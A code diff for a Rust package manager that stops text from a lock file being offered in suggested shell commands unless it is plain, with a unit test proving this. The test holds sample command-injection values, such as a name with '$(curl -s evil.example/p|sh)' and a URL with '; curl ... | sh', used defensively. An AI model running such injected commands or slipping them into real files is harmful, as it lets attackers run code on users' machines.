@@ -59,6 +59,31 @@ pub fn recorded_registry(catalog: &Catalog, name: &str, entry: &LockedPackage) -
     Ok(published.then(|| entry.source_name.clone()))
 }
 
+/// Whether `text` (from a lock file, which comes with the repository) is
+/// plain enough to offer inside a command to paste: a shell passes it on as
+/// it is, and it is no option.
+fn plain(text: &str) -> bool {
+    !text.is_empty()
+        && !text.starts_with('-')
+        && text
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_./:@+~%=".contains(c))
+}
+
+/// What `aam source add` takes to register a source install's source again,
+/// from its lock entry: `<url> --name <name>`, with placeholders for text that
+/// is not [`plain`].
+fn add_command_args(entry: &LockedPackage) -> String {
+    let name = Some(entry.source_name.as_str())
+        .filter(|name| crate::sources::spec::validate_name(name).is_ok() && plain(name));
+    let url = entry.source_url.as_deref().map(redact).filter(|url| plain(url));
+    format!(
+        "{} --name {}",
+        url.as_deref().unwrap_or("<url>"),
+        name.unwrap_or("<name>")
+    )
+}
+
 /// Compares an installed package with what the catalog knows now.
 pub fn check(catalog: &Catalog, settings: &Settings, name: &str, entry: &LockedPackage) -> Result<Freshness> {
     let mut out = Freshness {
@@ -87,7 +112,8 @@ pub fn check(catalog: &Catalog, settings: &Settings, name: &str, entry: &LockedP
                 out.reason = match settings.registries.iter().any(|r| r.name == registry) {
                     true => format!("registry `{registry}` does not list `{name}`: nothing to compare with"),
                     false => format!(
-                        "registry `{registry}` is not configured here: add it with `aam registry add {registry} <url>` to check for updates"
+                        "registry `{registry}` is not configured here: add it with `aam registry add {} <url>` to check for updates",
+                        Some(registry.as_str()).filter(|r| plain(r)).unwrap_or("<name>")
                     ),
                 };
                 return Ok(out);
@@ -119,14 +145,10 @@ pub fn check(catalog: &Catalog, settings: &Settings, name: &str, entry: &LockedP
             let Some(source) = catalog.find_source(&entry.source_name)? else {
                 // Removed here, or never added on this machine (a teammate's install).
                 out.unknown = true;
-                let url = entry
-                    .source_url
-                    .as_deref()
-                    .map(redact)
-                    .unwrap_or_else(|| "<url>".into());
                 out.reason = format!(
-                    "source `{}` is not registered here: add it with `aam source add {url} --name {}` to check for updates",
-                    entry.source_name, entry.source_name
+                    "source `{}` is not registered here: add it with `aam source add {}` to check for updates",
+                    entry.source_name,
+                    add_command_args(entry)
                 );
                 return Ok(out);
             };
@@ -161,4 +183,38 @@ pub fn check(catalog: &Catalog, settings: &Settings, name: &str, entry: &LockedP
         other => out.reason = format!("installed from a {}; nothing to compare with", other.as_str()),
     }
     Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn entry(name: &str, url: &str) -> LockedPackage {
+        serde_json::from_value(serde_json::json!({
+            "version": "1.0.0", "source": "source", "source_name": name, "source_url": url, "checksum": "c"
+        }))
+        .unwrap()
+    }
+
+    /// A lock file comes with the repository: its text is offered in a
+    /// command to paste only when a shell would pass it on as it is (a
+    /// re-test helper had `outdated` suggest `...; curl ... | sh`).
+    #[test]
+    fn the_add_command_quotes_only_plain_lock_text() {
+        assert_eq!(
+            add_command_args(&entry("team", "https://github.com/acme/skills")),
+            "https://github.com/acme/skills --name team"
+        );
+        assert_eq!(
+            add_command_args(&entry(
+                "team $(curl -s evil.example/p|sh)",
+                "https://github.com/acme/skills; curl -s https://evil.example/x | sh; echo"
+            )),
+            "<url> --name <name>"
+        );
+        assert_eq!(
+            add_command_args(&entry("team", "--upload-pack=touch /tmp/x")),
+            "<url> --name team"
+        );
+    }
 }
